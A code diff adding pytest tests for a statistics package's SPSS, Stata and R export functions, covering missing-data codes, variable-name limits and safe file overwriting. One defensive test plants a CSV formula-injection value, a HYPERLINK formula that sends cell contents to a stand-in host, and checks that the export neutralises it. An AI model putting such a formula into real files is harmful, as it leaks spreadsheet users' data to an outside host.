@@ -4,6 +4,7 @@ report's statsmodels fits to 1e-4 (relative)."""
 
 from __future__ import annotations
 
+import dataclasses
 import subprocess
 from pathlib import Path
 
@@ -13,6 +14,7 @@ import pyreadstat
 import pytest
 
 from peerlens.analysis import ReportError, fit_mixed_model
+from peerlens.analysis._files import OutputError, write_files
 from peerlens.analysis.stat_exports import write_export
 from peerlens.study import AnalysisDataset, Store
 
@@ -194,3 +196,76 @@ def test_r_refits_every_model_of_the_report(
             assert value == pytest.approx(variance[name], rel=1e-4, abs=tiny), (model.key, name)
         loglik = float(mine.loc[mine["kind"] == "loglik", "value"].iloc[0])
         assert model.loglik == pytest.approx(loglik, rel=1e-4), model.key
+
+
+def _with_code(dataset: AnalysisDataset, codes: tuple[float, ...], value: float) -> AnalysisDataset:
+    """``dataset`` with missing-data ``codes`` and P000's first ``scs_5`` coded ``value``."""
+    items, item_codes = dataset.items.copy(), dataset.item_codes.copy()
+    first = items.index[items["participant"] == "P000"][0]
+    items.loc[first, "scs_5"] = value
+    item_codes["scs_5"] = item_codes["scs_5"].astype(float)
+    item_codes.loc[first, "scs_5"] = value
+    return dataclasses.replace(dataset, items=items, item_codes=item_codes, missing_codes=codes)
+
+
+def test_r6_3_every_missing_code_is_user_missing_in_spss(
+    dataset: AnalysisDataset, tmp_path: Path
+) -> None:
+    four = _with_code(dataset, (-9.0, -8.0, -7.0, -6.0), -6.0)
+    (path,) = write_export(four, tmp_path / "four.sav", format="spss")
+    _, meta = pyreadstat.read_sav(str(path), user_missing=True)
+    assert meta.missing_ranges["scs_5"] == [{"lo": -9.0, "hi": -6.0}]
+    plain, _ = pyreadstat.read_sav(str(path))
+    assert (plain["scs_5"] < 0).sum() == 0  # -6 is missing, not an answer
+    # Codes enclosing real answers cannot be one range: refused, nothing written.
+    odd = _with_code(dataset, (-9.0, -8.0, 2.5, 7.0, 99.0), 99.0)
+    with pytest.raises(ReportError, match="SPSS declares at most 3 missing-data codes"):
+        write_export(odd, tmp_path / "odd.sav", format="spss")
+    many = _with_code(dataset, tuple(float(-c) for c in range(1, 28)), -27.0)
+    with pytest.raises(ReportError, match="Stata's extended missing values hold 26"):
+        write_export(many, tmp_path / "many.dta", format="stata")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["four.sav"]
+
+
+def test_r6_10_names_stata_cannot_hold_are_refused_by_name(
+    dataset: AnalysisDataset, tmp_path: Path
+) -> None:
+    long = "how_often_did_you_feel_connected_to_others_1"  # 44 characters: a REDCap name
+    renamed = dataclasses.replace(
+        dataset,
+        items=dataset.items.rename(columns={"scs_1": long, "scs_2": "in"}),
+        item_codes=dataset.item_codes.rename(columns={"scs_1": long, "scs_2": "in"}),
+    )
+    with pytest.raises(ReportError, match=f"'{long}' is longer than 32 characters; 'in' is a"):
+        write_export(renamed, tmp_path / "x.dta", format="stata")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_r6_6_r_export_keeps_foreign_and_earlier_files(
+    dataset: AnalysisDataset, tmp_path: Path
+) -> None:
+    mine = tmp_path / "analysis.R"
+    mine.write_text("# my own analysis\n")
+    with pytest.raises(ReportError, match=r"analysis\.R: exists and was not written by peerlens"):
+        write_export(dataset, tmp_path / "analysis.csv", format="r", outcomes=["scs_total"])
+    assert mine.read_text() == "# my own analysis\n"
+    assert not (tmp_path / "analysis.csv").exists()
+    # Our own script is replaced on a re-export.
+    csv, _ = write_export(dataset, tmp_path / "ok.csv", format="r", outcomes=["scs_total"])
+    write_export(dataset, csv, format="r", outcomes=["scs_total"])
+    # A failing write keeps the earlier files.
+    write_files({tmp_path / "a.csv": b"old a\n"})
+    (tmp_path / "a.R").mkdir()
+    with pytest.raises(OutputError):
+        write_files({tmp_path / "a.csv": b"new a\n", tmp_path / "a.R": b"x"})
+    assert (tmp_path / "a.csv").read_bytes() == b"old a\n"
+    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]
+
+
+def test_r6_9_the_r_csv_is_formula_neutralised(dataset: AnalysisDataset, tmp_path: Path) -> None:
+    site = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    people = dataset.participants.assign(site=dataset.participants["site"].replace("north", site))
+    bad = dataclasses.replace(dataset, participants=people, sites=(site, "south"))
+    csv, _ = write_export(bad, tmp_path / "t.csv", format="r", outcomes=["scs_total"])
+    cells = pd.read_csv(csv, dtype=str)["site"]
+    assert not cells.str.startswith("=").any() and cells.str.startswith("'=").any()
